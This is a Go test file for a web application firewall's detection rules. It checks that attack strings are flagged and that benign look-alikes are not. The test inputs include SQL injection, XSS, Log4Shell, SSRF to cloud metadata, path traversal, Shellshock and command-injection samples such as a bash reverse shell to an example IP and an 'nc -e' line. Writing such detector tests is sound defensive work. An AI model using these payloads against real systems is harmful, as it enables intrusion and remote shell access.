package fast

import (
	"context"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/weirgate/weir"
	"github.com/weirgate/weir/waf"
	"github.com/weirgate/weir/waf/feed"
)

// matched returns the rules that match a request, sorted, each once.
func matched(in waf.Input) []string {
	var r weir.Inspection
	waf.New(waf.Options{Rules: New(), Limits: limits}).Inspect(context.Background(), &in, &r)
	var ids []string
	for _, m := range r.Matches {
		ids = append(ids, m.Rule)
	}
	slices.Sort(ids)
	return slices.Compact(ids)
}

func json(text string) waf.Input {
	return body(`{"a":"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`, "\t", `\t`).Replace(text) + `"}`)
}

func body(json string) waf.Input {
	return waf.Input{Mode: weir.Enforce, Method: "POST", Path: "/", Header: http.Header{"Content-Type": {"application/json"}}, Body: []byte(json)}
}

// Every signature at its edge: what it must see, and what looks like it and is not.
func TestSignatures(t *testing.T) {
	for _, test := range []struct {
		rule     string
		yes, not []string
	}{
		{"lfi", []string{"/etc/passwd", "x/../etc/shadow", "/proc/self/environ"}, []string{"etcpasswd", "/etc/nginx", "passwd"}},
		{"jndi", []string{"${jndi:ldap://x}", "${${lower:j}ndi:x}", "a ${JNDI:dns:x}"}, []string{"${name}", "jndi:x", "$jndi"}},
		{"java", []string{"java.lang.Runtime", "Runtime.getRuntime", "T(java.lang.Thread)", "java.lang.String(a)", "java.lang.Errors"},
			[]string{"java island", "a runtime error", "java.lang.NullPointerException: it's null", "at java.base/java.lang.Thread.run(Thread.java:829)",
				"java.lang.reflect.Method.invoke(Unknown Source)", "java.lang.Error"}},
		{"java_object", []string{"rO0ABXNyABFq"}, []string{"xrO0ABXN it's"}},
		{"ssrf_metadata", []string{"http://169.254.169.254/latest", "see metadata.google.internal"}, []string{"169.254.1.1", "it's metadata"}},
		{"ssrf_scheme", []string{"file:///etc", "gopher://x", "dict://x:1"}, []string{"profile://x it's", "file: x", "https://x.test"}},
		{"ssrf_loopback", []string{"http://127.0.0.1/x", "http://127.1/", "https://[::1]:80/", "http://2130706433/", "http://a@127.0.0.1/", "http://0x7f.1/"},
			[]string{"http://localhost:3000/callback", "http://127.example.test/", "http://10.0.0.1/", "http://1234567/"}},
		{"php", []string{"<?php x", "php://filter/x", "$_GET[a]"}, []string{"php: a language", "<? x"}},
		{"php_call", []string{"system('id')", "eval($x)", "phpinfo()  ; phpinfo( 1 )"}, []string{"the system (old)", "Eval Petersen", "a system ( new )"}},
		{"node", []string{"a.child_process", "process.env.X"}, []string{"a child process", "process environment"}},
		{"node_require", []string{"require('x')", `require("x")`}, []string{"we require (some) rest", "require it"}},
		{"pollution", []string{"a.__proto__.b", "constructor.prototype.b"}, []string{"a constructor", "__proto"}},
		{"template", []string{"{{a.__class__}}", "__import__(x)"}, []string{"the class", "__x__ y"}},
		{"template_probe", []string{"{{7*7}}", "${7*7}", "<%= 7 * 7 %>", "#{7*'7'}"}, []string{"{{name}}", "${7}", "{{ 7 }}", "{{7*"}},
		{"sqli", []string{"1' OR '1'='1", "1 UNION SELECT a,b FROM c--"}, []string{"L'Aquila d'oro", "O'Reilly and Sons", "it's 5 o'clock"}},
		{"sqli_call", []string{"1 AND SLEEP(5)", "pg_sleep(10)", "benchmark(1000,md5(1))"}, []string{"sleep (well)", "I sleep", "a benchmark (of mine)"}},
		{"sqli_words", []string{"x; WAITFOR DELAY '0:0:5'", "from information_schema.tables", "into outfile 'x'"}, []string{"wait for delay", "into the outfile"}},
		{"sqli_union", []string{"union all select 1", "UNION/**/SELECT/**/null", "union (select a from b)"},
			[]string{"Western Union Select Services", "the union will select members", "reunion select 1"}},
		{"sqli_stacked", []string{"x; DROP TABLE users", "1;insert into a", "1; update a set b = 1", "1;select(1)"}, []string{"buy; drop us a line", "wash; update the list", "dropped; tables"}},
		{"shell", []string{"bash -i >& /dev/tcp/1.2.3.4/1", "a;cat${IFS}b", "() { :;}; x", " (){ x", "/bin/sh x"}, []string{"/dev/null it's", "bin/ship", "function test() {\n}", "it's a(){}"}},
		{"powershell", []string{"powershell -enc SQBFAFgA", "pwsh -c x", "powershell.exe /c"}, []string{"powershell is a shell", "powershell - a shell"}},
		{"command", []string{"1;cat /x", "1 | id", "x && curl http://y", "`whoami`", "$(id)", "a\nls -la", "nc -e /bin/x", "1; /usr/bin/id", "; ping 127.0.0.1", "x|sort|uniq", "a; c'a't /b"},
			[]string{"milk; cat food", "he and she; id est", "Tom & cat", "(cat)", "| who goes there", "find - and keep", "$(unknown)", "a\nmore to come", "; sort it out", "type; test"}},
		{"traversal", []string{"../../x", `..\..\x`, "a/../../b"}, []string{"../img/a.png", "wait... what", "1..2"}},
		{"xss", []string{"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", `" onmouseover="alert(1)`, "<svg onload=x>"}, []string{"a < b and c > d", "x = y", "1 <2> 3"}},
		{"xss_scheme", []string{"javascript:alert(1)", "data:text/html,x"}, []string{"javascript: the good parts"}},
		{"xss_style", []string{"<style>@import 'x'"}, []string{"in style @import"}},
		{"nosql", []string{"$where: function(){}", "$where this.a == b"}, []string{"somewhere, a function", "$where it is"}},
	} {
		for _, text := range test.yes {
			if got := matched(json(text)); !slices.Contains(got, test.rule) {
				t.Errorf("%s: %q: got %v", test.rule, text, got)
			}
		}
		for _, text := range test.not {
			if got := matched(json(text)); slices.Contains(got, test.rule) {
				t.Errorf("%s: %q: got %v", test.rule, text, got)
			}
		}
	}
}

// What is judged in parts of a request other than texts.
func TestParts(t *testing.T) {
	get := func(path, query string, more ...string) waf.Input {
		h := http.Header{}
		for i := 0; i < len(more); i += 2 {
			h[more[i]] = append(h[more[i]], more[i+1])
		}
		return waf.Input{Mode: weir.Enforce, Method: "GET", Path: path, Query: query, Header: h}
	}
	upload := func(name string) waf.Input {
		return waf.Input{Mode: weir.Enforce, Method: "POST", Path: "/", Header: http.Header{"Content-Type": {"multipart/form-data; boundary=b"}},
			Body: []byte("--b\r\nContent-Disposition: form-data; name=a; filename=\"" + name + "\"\r\n\r\nx\r\n--b--")}
	}
	for _, test := range []struct {
		in   waf.Input
		rule string
	}{
		{get("/a/../../b", ""), "traversal"}, {get("/a/%2e%2e/%2e%2e/b", ""), "traversal"}, {get("/a/..", ""), "traversal"}, {get("/a/%252e%252e/b", ""), "traversal"},
		{get("/.env", ""), "hidden_file"}, {get("/a/.git/HEAD", ""), "hidden_file"}, {get("/a.sql", ""), "restricted_ending"}, {get("/a.BAK", ""), "restricted_ending"},
		{get("/users/1%20or%201=1--", ""), "sqli"}, {get("/<script>x", ""), "xss_tag"}, {get("/a%00.php", ""), "null_byte"},
		{get("/", "a=%00"), "null_byte"}, {get("/", "a=%0d%0aSet-Cookie:%20b=c"), "crlf_injection"}, {get("/", "a=%0aGET%20/x"), "crlf_injection"},
		{get("/", "a[$ne]=1"), "nosql_operator"}, {get("/", "__proto__[a]=1"), "pollution"}, {get("/", "class.module.classLoader.x=1"), "java"},
		{get("/", "a=%2527%2520or%25201=1--"), "sqli"}, {get("/", "1'+or+1=1--+=1"), "sqli"}, {get("/", "u=http://203.0.113.9/a.txt%3f"), "rfi"},
		{get("/", "", "Cookie", "a=1; b=1' or '1'='1"), "sqli"}, {get("/", "", "User-Agent", "sqlmap/1.7"), "scanner"}, {get("/", "", "User-Agent", "() { :;}; x"), "shell"},
		{get("/", "", "X-Any", "${jndi:ldap://x}"), "jndi"}, {get("/", "", "Referer", "https://a/?q='><script>x"), "xss_tag"},
		{get("/", "", "X-Middleware-Subrequest", "middleware"), "middleware_subrequest"}, {get("/", "", "Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11"), "range"},
		{get("/a.pdf", "", "Range", "bytes=0-1"+strings.Repeat(",2-3", 62)), "range"},
		{waf.Input{Mode: weir.Enforce, Method: "TRACE", Path: "/"}, "method"},
		{get("/repo.git/.git/config", ""), "lfi"}, {get("/", "f=C:.git/config"), "lfi"},
		{get("/", "redirect_uri=http://127.1/"), "ssrf_loopback"}, {get("/", "redirect_uri=http://169.254.169.254/"), "ssrf_metadata"}, {get("/", "url=http://127.0.0.1:80/"), "ssrf_loopback"},
		{get("/", "redirect_uri=x+http://127.0.0.1:80/"), "ssrf_loopback"},
		{upload("x.php"), "upload_script"}, {upload("x.php.png"), "upload_script"}, {upload("x.PHP . "), "upload_script"}, {upload("../x.png"), "upload_path"}, {upload("<img src=x onerror=y>.png"), "xss"},
	} {
		if got := matched(test.in); !slices.Contains(got, test.rule) {
			t.Errorf("%s: %s?%s %v: got %v", test.rule, test.in.Path, test.in.Query, test.in.Header, got)
		}
	}
	for _, in := range []waf.Input{
		get("/", ""), get("/.well-known/a", ""), get("/a..b/c", ""), get("/v1/a.b/1.2.3", ""), get("/environment", ""), get("/sql", ""), get("/bl%C3%A5b%C3%A6r", ""),
		get("/", "a=1%0a2"), get("/", "a=From:%0aTo"), get("/", "filter[a]=1&q=O%27Reilly"), get("/", "", "Cookie", "a=%5B%22x%22%5D; b=eyJ.x.y--z"),
		get("/", "", "Range", "bytes=0-1,2-3"), get("/", "", "User-Agent", "Mozilla/5.0 (X11; Linux x86_64) it's"), get("/", "", "If-Match", `"a--b"`),
		get("/a.PDF", "", "Range", "bytes=0-1"+strings.Repeat(",2-3", 61)), // readers of PDF (coreruleset#499)
		get("/repo.git/HEAD", ""), get("/team/repo.git/config", ""),
		get("/authorize", "redirect_uri=http%3A%2F%2F127.0.0.1%3A51004%2Fcb"), get("/authorize", "redirect_uri=http://[::1]:51004/"), // fastapi-guard#131
		get("/login", "next=%2Fauthorize%3Fredirect_uri%3Dhttp%253A%252F%252F127.0.0.1%253A51004%252Fcb"),
		body(`{"redirect_uris":["http://127.0.0.1:8910/cb"],"client":{"post_logout_redirect_uris":["http://[::1]:1/"]}}`),
		upload("l'avion.png"), upload("server.cer"), upload("a..b.png"), upload("php.png"), upload(""),
	} {
		if got := matched(in); got != nil {
			t.Errorf("%s?%s %v: got %v", in.Path, in.Query, in.Header, got)
		}
	}
}

// A hit of libinjection's alone in a text of another script is noted, and does not refuse.
func TestOtherScripts(t *testing.T) {
	const text = "Он сказал: \"да\" и ушёл -- 1' OR '1'='1 это было давно и неправда, как говорится в сказке"
	in := json(text)
	var r weir.Inspection
	waf.New(waf.Options{Rules: New(), Limits: limits}).Inspect(t.Context(), &in, &r)
	if r.Verdict != weir.Clean || r.Score > 3 {
		t.Errorf("%+v", r)
	}
}

// Plain requests cost no memory.
func TestNoAllocation(t *testing.T) {
	w := build(t)
	in := waf.Input{Mode: weir.Enforce, Method: "GET", Proto: "HTTP/1.1", Host: "a.test", Path: "/v1/items/42", Query: "page=2&sort=name", Header: browser()}
	var r weir.Inspection
	if n := testing.AllocsPerRun(100, func() { w.Inspect(t.Context(), &in, &r) }); n > 0 {
		t.Errorf("%v allocations", n)
	}
}

// No text makes a rule panic.
func FuzzJudge(f *testing.F) {
	for _, seed := range []string{"{{7*", "http://", "union select", "; cat ", "`id", "$(", "../", "%252e%252e/", "() {", "<style", "$where", "rO0AB", "\r\n:", "/*", "${ifs", "http://@", "a=b;c=d"} {
		f.Add(seed, seed)
	}
	rules := New()
	f.Fuzz(func(t *testing.T, url, text string) {
		in := &waf.Input{Method: "GET", Path: "/" + url, Query: url, Header: http.Header{"Cookie": {text}, "User-Agent": {text}, "Referer": {url}, "Range": {text}}}
		c := &waf.Case{Input: in, Path: feed.Unescape(in.Path)}
		for part := feed.Path; part <= feed.PartField; part++ {
			c.Feed.Leaves = append(c.Feed.Leaves, feed.Leaf{Part: part, Name: url, Value: text})
		}
		rules.Judge(c)
	})
}

// What is judged sooner than a place could be handed out waits for none, and is judged as ever.
func TestQuickRequestsNeedNoPlace(t *testing.T) {
	w := waf.New(waf.Options{Rules: New(), Limits: limits, Slots: waf.NewSlots(0, 0, waf.RejectSaturated)})
	short, long := json(strings.Repeat("b", 4<<10-8)), json(strings.Repeat("b", 4<<10-7))
	packed := json("")
	packed.Header = packed.Header.Clone()
	packed.Header.Set("Content-Encoding", "gzip")
	for name, test := range map[string]struct {
		in    waf.Input
		fault string
		want  int
	}{
		"no body":          {waf.Input{Mode: weir.Enforce, Method: "GET", Path: "/", Proto: "HTTP/1.1", Host: "x"}, "", 0},
		"an attack":        {waf.Input{Mode: weir.Enforce, Method: "GET", Path: "/", Query: "q=1'+UNION+SELECT+password+FROM+users--+-", Proto: "HTTP/1.1", Host: "x"}, "", 403},
		"4 KiB of body":    {short, "", 0},
		"a byte more":      {long, "saturated", 503},
		"a compressed one": {packed, "saturated", 503},
	} {
		var r weir.Inspection
		w.Inspect(t.Context(), &test.in, &r)
		if r.Fault != test.fault || r.HTTP != test.want {
			t.Errorf("%s: %+v, want fault %q and HTTP status %d", name, r, test.fault, test.want)
		}
	}
}
